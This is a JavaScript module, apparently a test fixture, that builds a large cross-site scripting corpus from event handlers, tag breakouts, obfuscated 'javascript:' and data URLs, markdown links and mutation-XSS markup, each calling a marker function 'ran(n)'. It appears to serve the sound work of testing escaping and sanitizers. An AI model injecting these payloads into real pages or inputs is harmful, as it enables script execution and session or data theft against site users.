// Texts that run where one forgets to escape, or believes a parser that is not the browser's. Each
// calls `ran(n)` with its number.

const events = [
  ['img src=x', 'error'], ['img src=data:,', 'error'], ['svg', 'load'], ['body', 'load'], ['video src=x', 'error'],
  ['audio src=x', 'error'], ['source src=x', 'error'], ['object data=x', 'error'], ['iframe', 'load'],
  ['details open', 'toggle'], ['input autofocus', 'focus'], ['a tabindex=0 autofocus', 'focus'],
  ['p style="animation:x 1s"', 'animationstart'], ['marquee', 'start'], ['link rel=stylesheet href=data:,', 'load'],
  ['style', 'load'], ['script src=data:,', 'load'], ['video><source', 'error'], ['svg><animate attributeName=x dur=1s', 'begin'],
  ['svg><image href=x', 'error'], ['math', 'focus'], ['image src=x', 'error'], ['b popover id=x', 'beforetoggle'],
];
/** Ways to write the event of an element. */
const handlers = [
  (element, event, call) => `<${element} on${event}=${call}>`,
  (element, event, call) => `<${element} on${event}="${call}">`,
  (element, event, call) => `<${element}/on${event}='${call}'/>`,
  (element, event, call) => `<${element.toUpperCase()} ON${event.toUpperCase()} = ${call}>`,
  (element, event, call) => `<${element}\ton${event}\n=\n${call} x>`,
  (element, event, call) => `"><${element} on${event}=${call}>`,
  (element, event, call) => `'><${element} on${event}=${call} x='`,
];
/** Texts that end what may be around them. */
const breakouts = [
  '</title>', '</textarea>', '</style>', '</script>', '</noscript>', '</template>', '</svg>', '</math>', '-->', '--!>',
  ']]>', '"/>', "'/>", '</a>', '</p></div></main></body>', '`>', '\\">', '&quot;>', '&#34;>', '%22>', '\u2028', '\u0000',
  '<!--', '<![CDATA[', '<?', '<!doctype x [', '{{ ', '{% raw %}', '${', '<b title="', "<b title='", '<b ', '<', '</', '<p/',
];
const runners = (call) => [`<script>${call}</script>`, `<img src=x onerror=${call}>`, `<svg onload=${call}>`];
/** Addresses that run. */
const addresses = (call) => [
  `javascript:${call}`, `JaVaScRiPt:${call}`, `java\tscript:${call}`, `java\nscript:${call}`, ` javascript:${call}`,
  `\u0001javascript:${call}`, `java\u0001script:${call}`, `java\u202escript:${call}`, `java\ufeffscript:${call}`,
  `java\u00adscript:${call}`, `&#106;avascript:${call}`, `&#x6a&#x61vascript:${call}`, `javascript&colon;${call}`,
  `java&Tab;script:${call}`, `java&NewLine;script:${call}`, `java&#x202e;script:${call}`, `java&#1;script:${call}`,
  `javascript&#0000058${call}`, `%6aavascript:${call}`, `//javascript:${call}`, `\\javascript:${call}`,
  `data:text/html,<script>${call}</script>`, `data:text/html;base64,PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`, `vbscript:${call}`,
  `blob:javascript:${call}`, `filesystem:javascript:${call}`, `view-source:javascript:${call}`, `feed:javascript:${call}`,
  `x:javascript:${call}`, `https:javascript:${call}`, `javascript://example.org/%0a${call}`, `javascript:/*--></title>*/${call}`,
];
/** Tags in which addresses run. */
const carriers = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}'>x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<q cite="${address}">x</q><area href="${address}">`,
  (address) => `[x](<${address}>)`,
  (address) => `[x]\n\n[x]: <${address}>`,
  (address) => `![x](<${address}>)`,
];
/** Trees that browsers build otherwise than they are written. */
const trees = (call) => [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<select><template><img src=x onerror=${call}></template></select>`,
  `<table><td><script>${call}</script><table>`,
  `<b><p><a><b></p><script>${call}</script>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></foreignObject></svg>`,
  `<iframe srcdoc="&lt;script&gt;parent.${call}&lt;/script&gt;"></iframe>`,
  `<template shadowrootmode=open><script>${call}</script></template>`,
  `<svg><script href="data:text/javascript,${call}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a onload='${call}'/></svg>#x">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href="javascript:/a/-${call};//">`,
  `<a href=x><a href="javascript:${call}">y</a></a>`,
  `<p id=x tabindex=1 onfocus=${call}></p><a href=#x>x</a>`,
  `<plaintext><img src=x onerror=${call}>`,
  `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  `<script type=module>${call}</script>`,
  `<script type="application/json" id="dl:faults">[{"message":"<img src=x onerror=${call}>"}]</script>`,
  `<div id="dl:faults" class="dateline-faults">[${call}]</div>`,
  `<div data-explore data-giscus><button onclick=${call}>x</button></div><span class=embed><a data-frame="javascript:${call}">x</a></span>`,
];

/** All payloads, in an order in which every n-th is of every kind. */
export function payloads() {
  const all = [];
  const add = (make) => all.push(make(`ran(${all.length})`));
  for (const [element, event] of events) for (const handler of handlers) add((call) => handler(element, event, call));
  for (const breakout of breakouts) for (const n of [0, 1, 2]) add((call) => breakout + runners(call)[n]);
  addresses('').forEach((_, n) => add((call) => carriers[n % 2](addresses(call)[n])));
  addresses('').forEach((_, n) => add((call) => carriers[6 + (n % 3)](addresses(call)[n])));
  for (const carrier of carriers) for (const n of [0, 3, 6, 11]) add((call) => carrier(addresses(call)[n]));
  addresses('').forEach((_, n) => add((call) => addresses(call)[n]));
  trees('').forEach((_, n) => add((call) => trees(call)[n]));
  return all;
}
